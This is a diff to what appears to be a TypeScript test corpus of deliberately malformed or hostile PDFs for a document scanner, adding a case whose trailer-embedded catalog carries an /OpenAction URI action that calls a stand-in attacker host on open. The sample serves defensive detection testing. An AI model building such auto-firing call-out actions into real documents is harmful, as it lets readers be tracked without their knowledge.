@@ -70,6 +70,7 @@ import {
   bigImage,
   buildClassicPdf,
   buildPdf,
+  directRootPdf,
   escapeNames,
   handwrittenPages,
   handwrittenPdf,
@@ -598,6 +599,10 @@ const huntedPdfs: CorpusItem[] = [
   hunted('pdf-objstm-predictor-by-reference', 'PDF_UNREADABLE', predictorByReferencePdf),
   // The cross-reference stream calls the packed object 6 (an opening /URI to pdf.js); its pairs, 7.
   hunted('pdf-objstm-pair-numbered-otherwise', 'PDF_UNREADABLE', packedUnderAnotherNumberPdf),
+  // The catalog in place in the trailer, which pdf.js reads: its opening action calls out.
+  hunted('pdf-trailer-catalog-openaction-uri', 'PDF_ACTION', () =>
+    directRootPdf('/OpenAction << /S /URI /URI (http://attacker.example/track) >>'),
+  ),
   hunted('pdf-javascript-tree-through-kids-escaped', 'PDF_SCRIPT', () =>
     buildPdf(
       [
